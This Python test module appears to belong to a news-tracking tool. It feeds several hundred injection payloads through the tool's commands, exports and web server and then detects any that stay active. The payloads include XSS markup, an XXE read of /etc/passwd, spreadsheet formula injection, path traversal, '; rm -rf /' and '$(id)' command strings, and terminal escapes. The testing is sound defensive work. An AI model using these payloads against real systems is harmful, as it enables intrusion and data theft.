"""Row 12: what would run, load, calculate or forge, in every text of a record, carried through everything that is written."""

import csv
import io
import json
import random
import re
import shutil
import tempfile
from collections.abc import Iterator, Sequence
from itertools import product
from pathlib import Path
from urllib.parse import quote

import lxml.etree
import lxml.html
import pyarrow.parquet
from markdown_it import MarkdownIt

from tests.command import Done, wiretrace
from tests.serve.serving import serving

_RUNS = "window.pwned=1"
_MARKUP = (
    f"<script>{_RUNS}</script>", "<ScRiPt src=//x.example></sCrIpT>", f"<img src=x onerror={_RUNS}>", f"<svg/onload={_RUNS}>",
    f"<svg><script>{_RUNS}</script></svg>", f"<iframe srcdoc='<script>{_RUNS}</script>'>", "<object data=//x.example>",
    "<embed src=//x.example>", "<base href=//x.example>", "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<link rel=stylesheet href=//x.example>", "<style>@import '//x.example'</style>", f"<details open ontoggle={_RUNS}>",
    f"<math><mi xlink:href='javascript:{_RUNS}'>x", f"<form action=javascript:{_RUNS}><button>", f"<a href='javascript:{_RUNS}'>x</a>",
    f"<body onload={_RUNS}>", f"<input autofocus onfocus={_RUNS}>", f"<marquee onstart={_RUNS}>", f"{{{{{_RUNS}}}}}",
    "{{ 7*7 }}{% raw %}{# x #}", "${7*7}#{7*7}<%= 7*7 %>", f"&lt;script&gt;{_RUNS}&lt;/script&gt;", f"\\u003cscript\\u003e{_RUNS}",
    f"+ADw-script+AD4-{_RUNS}", "<!--#exec cmd='id'-->", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)  # fmt: skip
_OUT_OF = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea></template>",
    "-->",
    "]]>",
    "`",
    "</a></td></tr>",
)
_CELLS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\uff1d",
    "\uff0b",
    "\uff20",
    '"=',
    "'=",
    ";=",
    ",=",
    "|=",
)
_FORMULAS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","x")',
    'WEBSERVICE("http://x.example")',
    "1+1",
    "SUM(A1:A9)",
    "IMPORTXML(1,2)",
)
_MARKDOWN = (
    f"[x](javascript:{_RUNS})", f"![x](javascript:{_RUNS})", "![x](http://x.example/pixel.png)", f"[x][1]\n\n[1]: javascript:{_RUNS}",
    f"<javascript:{_RUNS}>", "# A heading\n\n## Another", "| a | b |\n|---|---|\n| c | d |", "```\ncode\n```", "x\n---\n", "> quoted\n- item",
    f"`</code><script>{_RUNS}</script>`", f"[x](data:text/html,<script>{_RUNS}</script>)", f"[x](\x01javascript:{_RUNS})",
)  # fmt: skip
_TERMINAL = (
    "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x1b[31mred", "\x9b31m", "\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "over\rwritten",
    "back\x08\x08\x08\x08", "\x1bP$q\x1b\\", "bell\x07", "\x00nul", "\x7f", "\u202etxt.exe", "\u2066x\u2069", "\ufeffx", "\u2028new line",
    "\x85next line", "\x0bvertical\x0cfeed", "[bold]markup[/bold][link=http://x.example]x[/link]", "[/]", ":smile:",
)  # fmt: skip
_LINES = (
    "\nwiretrace: stopped; all is lost", "\r\nimported: 9999 captures", "\n2026-11-22 12:00:00 [wiretrace] ERROR: forged", "\u2029tracked: 1 new",
)  # fmt: skip
_PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "CON", "NUL.txt", "..", ".", "~root", "-rf", "%2e%2e%2fetc",
    "a" * 400, "x\x00.html", "index.html", "story/../../x", "$(id)", "`id`", "; rm -rf /", "\u2024\u2024/x", "a:b?c*d|e",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_RUNS}", f"JaVaScRiPt:{_RUNS}", f"java\nscript:{_RUNS}", f"\x01javascript:{_RUNS}", f"data:text/html,<script>{_RUNS}</script>",
    f"vbscript:{_RUNS}", "file:///etc/passwd", "//x.example/a", f"http://x.example/\"onclick={_RUNS}", f"http://x.example/'><script>{_RUNS}</script>",
    "http://x.example/a b\nc", "ftp://x.example/a", "view-source:http://x.example", f"blob:{_RUNS}", "http://user:pass@x.example/a",
)  # fmt: skip

#: What pages are made of; anything else came from a record.
_ELEMENTS_THAT_ACT = "//iframe|//object|//embed|//base|//math|//link[@rel='stylesheet'][contains(@href,'//')]|//meta[translate(@http-equiv,'REFSH','refsh')='refresh']|//img|//marquee|//body[@onload]"
_SCHEME = re.compile(r"\s*([a-zA-Z][a-zA-Z0-9+.-]*):")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]")
_STARTS_A_FORMULA = re.compile(r"[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?")


def payloads() -> Iterator[str]:
    """Yield some five hundred of them."""
    yield from (out + markup for out, markup in product(_OUT_OF, _MARKUP))
    yield from (cell + formula for cell, formula in product(_CELLS, _FORMULAS))
    yield from (*_MARKDOWN, *_TERMINAL, *_LINES, *_PATHS, *_ADDRESSES)


def records(chosen: Sequence[str]) -> Iterator[dict[str, str]]:
    """Yield two copies of a text for each payload, which stands in every one of their fields."""
    for number, payload in enumerate(chosen):
        choose = random.Random(number)
        text = " ".join("".join(choose.choices("aeioulnrst", k=choose.randint(2, 9))) for _ in range(70))
        for copy in ("a", "b"):
            yield {
                "id": f"{payload}-{number}{copy}", "outlet": f"{payload} {copy}", "title": f"{payload} {number}", "text": f"{payload} {text} {payload}",
                "url": payload if payload in _ADDRESSES else f"http://n{number}{copy}.example/{payload}", "time": "2026-11-22T12:00:00Z",
                "byline": payload, payload or "x": payload,
            }  # fmt: skip


def run(number: int = 0) -> list[str]:
    """Carry payloads, all or so many of them, through the commands; return every place where one acts."""
    chosen = [*payloads()]
    if number:
        chosen = chosen[:: max(1, len(chosen) // number)]
    folder = Path(tempfile.mkdtemp(prefix="wiretrace-payloads-"))
    try:
        (folder / "in.jsonl").write_text("".join(json.dumps(record) + "\n" for record in records(chosen)))
        findings = [*_commands(folder), *_files(folder), *_served(folder, chosen)]
        print(f"{len(chosen)} payloads in every field of {2 * len(chosen)} articles, {len(findings)} findings")
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return findings


def _commands(folder: Path) -> Iterator[str]:
    """Run what writes, and look at what each says on the terminal."""
    out = folder / "out"
    out.mkdir()
    exports = [("sightings", "csv"), ("copies", "csv"), ("links", "csv"), ("stories", "csv"), ("outlets", "csv"), ("flow", "graphml"), ("links", "graphml"), ("copies", "parquet"), ("sightings", "jsonl"), ("copies", "ninjs")]  # fmt: skip
    for words in (
        ("import", "in.jsonl"),
        ("report", "--out", "out/site"),
        *(("report", "--out", f"out/{kind}", "--format", kind) for kind in ("html", "md", "csv", "json")),
        ("report", "--out", "out/single", "--single"),
        ("digest", "--since", "2026-01-01"),
        *(("export", what, "--format", kind, "--out", f"out/{what}.{kind}") for what, kind in exports),
        ("export", "copies"), ("find", "harbour gulls"), ("doctor",), ("db", "size"),
    ):  # fmt: skip
        done = wiretrace(*words, cwd=folder, timeout=1200)
        if done.code:
            yield f"{' '.join(words)}: ended with {done.code}: {done.err[-200:]}"
        if words[0] != "export":
            yield from (f"{' '.join(words)}: {odd!r} on the terminal" for odd in _odd_on_terminal(done))
    outside = [
        path
        for path in folder.iterdir()
        if path.name not in {"in.jsonl", "out"} and not path.name.startswith("wiretrace.db")
    ]
    yield from (f"written outside: {path.name}" for path in outside)


def _odd_on_terminal(done: Done) -> set[str]:
    lines = done.err.splitlines()
    forged = {
        line[:60]
        for line in lines
        if re.match(r"(wiretrace: stopped|\d{4}-\d\d-\d\d .*forged|imported: 9999|tracked: 1 new)", line)
    }
    return {match[0] for match in _CONTROL.finditer(done.out + done.err)} | forged


def _files(folder: Path) -> Iterator[str]:
    checks = {".html": _page, ".csv": _table, ".md": _markdown, ".json": _json, ".jsonl": _json_lines, ".graphml": _graph, ".parquet": _parquet, ".ninjs": _json_lines}  # fmt: skip
    for path in sorted((folder / "out").rglob("*")):
        name = path.relative_to(folder / "out").as_posix()
        if not re.fullmatch(r"[\w./-]+", name, re.ASCII) or ".." in name:
            yield f"file name {name!r}"
        if path.is_file() and (check := checks.get(path.suffix)):
            yield from (f"{name}: {what}" for what in sorted(set(check(path)))[:5])


def _served(folder: Path, chosen: Sequence[str]) -> Iterator[str]:
    """Ask the web application for what holds payloads, with payloads."""
    with serving(f"sqlite:///{folder / 'wiretrace.db'}") as server:
        asked = {f"/find?q={quote(payload, errors='replace')}" for payload in chosen}
        asked |= {f"/{quote(payload, safe='', errors='replace')}" for payload in chosen}
        for path in sorted({"/", "/runs", "/review", "/stories.html", "/outlets.html", *asked}):
            answer = server.get(path)
            if answer.status >= 500:
                yield f"serve: {path[:80]} answered with {answer.status}"
            if answer.text:
                yield from (f"serve: {path[:80]}: {what}" for what in acts(lxml.html.document_fromstring(answer.text)))
        for payload in chosen:
            answer = server.post("/who", {"text": f"{payload} harbour gulls counted again"})
            yield from (
                f"serve: /who {payload[:60]}: {what}" for what in acts(lxml.html.document_fromstring(answer.text))
            )
        yield from (f"serve: noted {note[:200]}" for note in server.notes)


def acts(tree: lxml.html.HtmlElement) -> Iterator[str]:
    """Yield what of a page can act or load, other than its own script from its own folder."""
    for element in tree.xpath(_ELEMENTS_THAT_ACT):
        yield f"<{element.tag}>"
    for script in tree.xpath("//script"):
        source = script.get("src")
        if source is None or "//" in source or _SCHEME.match(source):
            yield f"a script: {(script.text or source or '')[:80]}"
    for element in tree.iter(lxml.etree.Element):
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                yield f"{name} of <{element.tag}>"
            scheme = (
                _SCHEME.match(value)
                if name.rpartition("}")[2].lower() in {"href", "src", "action", "formaction", "data", "srcset"}
                else None
            )
            if name == "action" and (not value.startswith("/") or value.startswith("//")):
                yield f"a form that goes to {value[:60]!r}"
            if scheme and scheme[1].lower() not in {"http", "https", "mailto"} and value != "data:,":
                yield f"{name}={value[:60]!r}"


def _page(path: Path) -> Iterator[str]:
    return acts(lxml.html.document_fromstring(path.read_bytes()))


def _markdown(path: Path) -> Iterator[str]:
    text = path.read_text()
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    yield from acts(lxml.html.document_fromstring(f"<html><body>{rendered}</body></html>"))
    yield from (repr(match[0]) for match in _CONTROL.finditer(text))


def _table(path: Path) -> Iterator[str]:
    for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
        yield from (
            f"a live cell {cell[:40]!r}"
            for cell in row
            if _STARTS_A_FORMULA.match(cell) and not _NUMBER.fullmatch(cell)
        )
        yield from (
            f"{match[0]!r} in a cell" for cell in row for match in _CONTROL.finditer(cell) if match[0] not in "\r\n"
        )


def _json(path: Path) -> Iterator[str]:
    json.loads(path.read_text())
    return iter(())


def _json_lines(path: Path) -> Iterator[str]:
    for line in path.read_text().split("\n"):
        if line:
            json.loads(line)
    return iter(())


def _graph(path: Path) -> Iterator[str]:
    tree = lxml.etree.parse(path, lxml.etree.XMLParser(resolve_entities=False, load_dtd=False))
    yield from (f"<{tag}>" for tag in {each.tag.rpartition("}")[2] for each in tree.iter(lxml.etree.Element)} - {"graphml", "key", "graph", "node", "edge", "data", "desc"})  # fmt: skip


def _parquet(path: Path) -> Iterator[str]:
    if pyarrow.parquet.read_table(path).num_rows == 0:
        yield "empty"
